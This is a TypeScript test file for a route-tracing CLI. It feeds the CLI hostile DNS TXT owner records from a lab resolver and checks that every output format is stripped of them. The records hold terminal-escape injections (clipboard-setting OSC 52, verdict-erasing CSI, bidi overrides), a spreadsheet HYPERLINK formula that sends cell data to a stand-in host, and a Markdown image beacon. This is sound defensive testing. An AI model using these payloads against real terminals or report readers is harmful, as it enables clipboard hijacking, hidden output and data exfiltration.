// Hostile owner answers from a real resolver: dnsmasq in the lab serves Team Cymru TXT records laden with terminal
// escapes (OSC 52 sets the clipboard, CSI moves the cursor and erases the verdict, an 8-bit CSI, a right-to-left
// override), a spreadsheet formula and Markdown image syntax, and a 0.0.0.0/0 answer for hop 1. The real CLI's
// text, notes, JSON and report files (.csv, .md, .html) carry none of those characters, and no other hop is
// relabelled by the /0.
import assert from 'node:assert/strict';
import { chmodSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import type { OwnerInfo } from '../../src/trace/owners.js';
import { runCli, withChain } from './harness.js';
import { startLabDns } from './lab-dns.js';

const OSC52 = '\x1b]52;c;ZWNobyBwd25lZA==\x07';
const ERASE = '\x1b[4A\x1b[J';
const RECORDS: [string, string][] = [
  // Hop 1 claims every address there is.
  ['2.1.18.198.origin.asn.cymru.com', '64496 | 0.0.0.0/0 | ZZ | lab | 2026-11-29'],
  ['AS64496.asn.cymru.com', `64496 | ZZ | lab | 2026-11-29 | ${OSC52}POISON${ERASE}Port 443/tcp: [open]`],
  ['2.2.18.198.origin.asn.cymru.com', `64501 | 198.18.2.0/24 | ZZ | ${ERASE}lab | 2026-11-29`],
  // No comma: dnsmasq would split the record there.
  ['AS64501.asn.cymru.com', '64501 | ZZ | lab | 2026-11-29 | =HYPERLINK("https://x.example/?d="&A2)'],
  ['2.3.18.198.origin.asn.cymru.com', `${OSC52}${ERASE}not a cymru answer`],
  ['2.4.18.198.origin.asn.cymru.com', '64502 | 198.18.4.0/22 | ZZ | lab | 2026-11-29'],
  ['AS64502.asn.cymru.com', `64502 | ZZ | lab | 2026-11-29 | \u009b2J\u202eLAB-DC\u200b ![x](https://t.example/p.png)`],
];

/** C0 controls but the line ends and tabs a format uses, DEL, C1, bidi controls, zero-width marks. */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const UNSAFE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]/u;
/** The same characters written as JSON escapes (JSON.stringify writes C0 controls as \u001b). */
const ESCAPED = /\\u(00[01][0-9a-f]|007f|008[0-9a-f]|009[0-9a-f]|061c|200[b-f]|202[a-e]|206[0-9]|feff)/i;

function assertClean(what: string, text: string): void {
  const raw = UNSAFE.exec(text);
  assert.equal(raw, null, `${what} holds U+${raw?.[0].codePointAt(0)?.toString(16).padStart(4, '0')} near ${JSON.stringify(text.slice(Math.max(0, (raw?.index ?? 0) - 40), (raw?.index ?? 0) + 40))}`);
  const escaped = ESCAPED.exec(text);
  assert.equal(escaped, null, `${what} holds the escape ${escaped?.[0]}`);
}

type Owned = { owners: Record<string, OwnerInfo>; ownerNotes: string[] };

test('hostile TXT answers from a real resolver: no output holds a control character; a 0.0.0.0/0 answer relabels no other hop', async (t) => {
  await withChain(t, { routers: 3 }, async (chain) => {
    await chain.startServices({ tcp: [443] });
    const dns = await startLabDns(chain, RECORDS);
    const server = chain.serverAddress(4);
    const dir = mkdtempSync(join(tmpdir(), 'portpath-hostile-'));
    // The CLI writes report files after dropping root: the directory must let it.
    chmodSync(dir, 0o777);
    t.after(() => rmSync(dir, { recursive: true, force: true }));

    const json = await runCli(chain.client.namespace, ['-z', '--dns', dns, '--json', '-n', server, '443']);
    assert.equal(json.code, 0, json.stderr);
    assertClean('the JSON', json.stdout);
    assertClean('stderr of the JSON run', json.stderr);
    const report = JSON.parse(json.stdout) as Owned;
    const owner = (address: string) => report.owners[address]?.owner ?? null;
    // The resolver may say what it likes about the address asked; it says nothing about the others.
    assert.equal(owner(chain.routerAddress(1, 4))?.asn, 64496);
    assert.deepEqual([owner(chain.routerAddress(2, 4))?.asn, owner(chain.routerAddress(2, 4))?.prefix], [64501, '198.18.2.0/24']);
    assert.equal(owner(chain.routerAddress(3, 4)), null, 'hop 3 answered garbage: no owner, and not the /0');
    assert.equal(owner(server)?.asn, 64502);
    // (dnsmasq hands the BEL on as a space.)
    assert.match(owner(chain.routerAddress(1, 4))?.asName ?? '', /^\]52;c;ZWNobyBwd25lZA== ?POISON\[4A\[JPort 443\/tcp: \[open\]$/);
    assert.equal(owner(chain.routerAddress(2, 4))?.registry, '[4A[Jlab');
    assert.ok(report.ownerNotes.some((n) => n.includes(chain.routerAddress(3, 4)) && n.includes('[4A[Jnot a cymru answer')), JSON.stringify(report.ownerNotes));

    const text = await runCli(chain.client.namespace, ['-z', '--dns', dns, '-n', server, '443']);
    assert.equal(text.code, 0, text.stderr);
    assertClean('the text output', text.stdout);
    assertClean('the notes on stderr', text.stderr);
    assert.match(text.stdout, /^Port 443\/tcp: \[open\]/m, 'the verdict is there, unerased');
    assert.match(text.stderr, /unreadable answer was ignored/);

    for (const extension of ['csv', 'md', 'html']) {
      const file = join(dir, `trace.${extension}`);
      const run = await runCli(chain.client.namespace, ['-z', '--dns', dns, '-n', server, '443', '--report-file', file]);
      assert.equal(run.code, 0, run.stderr);
      assertClean(`the .${extension} report`, readFileSync(file, 'utf8'));
    }
    const csv = readFileSync(join(dir, 'trace.csv'), 'utf8');
    assert.ok(csv.includes(`"'=HYPERLINK(""https://x.example/?d=""&A2)"`), csv);
    const markdown = readFileSync(join(dir, 'trace.md'), 'utf8');
    assert.ok(markdown.includes('!\\[x\\](https://t.example/p.png)'), markdown);
    assert.doesNotMatch(readFileSync(join(dir, 'trace.html'), 'utf8'), /<img/i);
  });
});
